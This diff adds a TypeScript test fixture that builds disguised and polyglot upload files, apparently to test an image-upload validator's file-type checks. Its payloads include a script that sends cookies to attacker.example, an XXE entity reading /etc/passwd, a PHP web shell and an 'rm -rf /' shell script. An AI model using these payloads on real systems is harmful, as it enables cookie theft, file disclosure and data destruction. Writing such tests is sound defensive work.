@@ -1,0 +1,79 @@
+import { gzipSync } from 'node:zlib';
+import { invalidFileType } from '#domain/media/text.ts';
+import type { HostileFile } from './hostile-files.ts';
+import { drawnJpeg, drawnPicture, drawnPng } from './plain-pictures.ts';
+
+const SCRIPT = '<script>fetch("https://attacker.example/"+document.cookie)</script>';
+const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60">${SCRIPT}</svg>`;
+
+/** What calls itself a picture and is something else, and pictures that carry something else. */
+export async function disguisedFiles(): Promise<HostileFile[]> {
+  const refused = (what: string, content: string | Buffer, type: string): HostileFile => ({
+    what,
+    name: `${what}.jpg`,
+    bytes: Buffer.from(content),
+    expected: invalidFileType(type),
+  });
+  const taken = (what: string, name: string, bytes: Buffer): HostileFile => ({ what, name, bytes, expected: 'done' });
+  const jpeg = await drawnJpeg(100);
+  const gif = await drawnPicture(101).gif().toBuffer();
+  return [
+    refused('an HTML page', `<!DOCTYPE html><html><body>${SCRIPT}</body></html>`, 'text/html'),
+    refused('an HTML page after white space', `\n\n  <html>${SCRIPT}</html>`, 'text/html'),
+    refused('a bare script element', SCRIPT, 'text/html'),
+    refused('an SVG with a script', SVG, 'image/svg+xml'),
+    refused('an SVG behind an XML declaration', `<?xml version="1.0"?>${SVG}`, 'image/svg+xml'),
+    refused('an SVG behind a comment', `<!-- photograph -->${SVG}`, 'image/svg+xml'),
+    refused(
+      'an SVG with an entity of a local file',
+      `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${SVG}`,
+      'image/svg+xml',
+    ),
+    refused('a compressed SVG', gzipSync(SVG), 'application/gzip'),
+    refused('a PDF', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj', 'application/pdf'),
+    refused('a zip', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200)]), 'application/zip'),
+    refused('a program for Windows', Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(300)]), 'unknown'),
+    refused('a program for Linux', Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(300)]), 'unknown'),
+    refused('a shell script', '#!/bin/sh\nrm -rf /\n', 'unknown'),
+    refused('a script of PHP', '<?php system($_GET["c"]); ?>', 'unknown'),
+    refused('a text', 'This is not a photograph.', 'unknown'),
+    refused('a JSON file', '{"image":true}', 'unknown'),
+    refused('a GIF', gif, 'image/gif'),
+    refused('a TIFF', await drawnPicture(102).tiff().toBuffer(), 'image/tiff'),
+    refused('an AVIF', await drawnPicture(103).avif({ effort: 0 }).toBuffer(), 'image/avif'),
+    refused('a bitmap of Windows', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]), 'image/bmp'),
+    refused('a GIF that is a script too', `GIF89a/*${SCRIPT}*/=1;`, 'image/gif'),
+    taken('a PNG named as a JPEG', 'a.jpg', await drawnPng(104)),
+    taken('a JPEG named as a PNG', 'a.png', await drawnJpeg(105)),
+    taken('a WebP named as a program', 'a.exe', await drawnPicture(106).webp().toBuffer()),
+    taken('a JPEG with an HTML page behind its end', 'a.html', Buffer.concat([jpeg, Buffer.from(`<html>${SCRIPT}`)])),
+    taken('a JPEG with an HTML page as its comment', 'b.html', withComment(await drawnJpeg(107), `--><html>${SCRIPT}`)),
+    taken(
+      'a JPEG with a zip behind its end',
+      'a.zip',
+      Buffer.concat([await drawnJpeg(108), Buffer.from('PK\x03\x04zip')]),
+    ),
+    taken('a PNG with a script as its text', 'a.htm', withText(await drawnPng(109), `Comment\0${SCRIPT}`)),
+  ];
+}
+
+/** A JPEG with a comment segment right behind its first mark. */
+function withComment(jpeg: Buffer, comment: string): Buffer {
+  const length = Buffer.alloc(2);
+  length.writeUInt16BE(comment.length + 2);
+  return Buffer.concat([
+    jpeg.subarray(0, 2),
+    Buffer.from([0xff, 0xfe]),
+    length,
+    Buffer.from(comment),
+    jpeg.subarray(2),
+  ]);
+}
+
+/** A PNG with a text chunk behind its header; its checksum is left at zero, which decoders forgive for such chunks. */
+function withText(png: Buffer, text: string): Buffer {
+  const head = Buffer.alloc(8);
+  head.writeUInt32BE(text.length);
+  head.write('tEXt', 4);
+  return Buffer.concat([png.subarray(0, 33), head, Buffer.from(text), Buffer.alloc(4), png.subarray(33)]);
+}
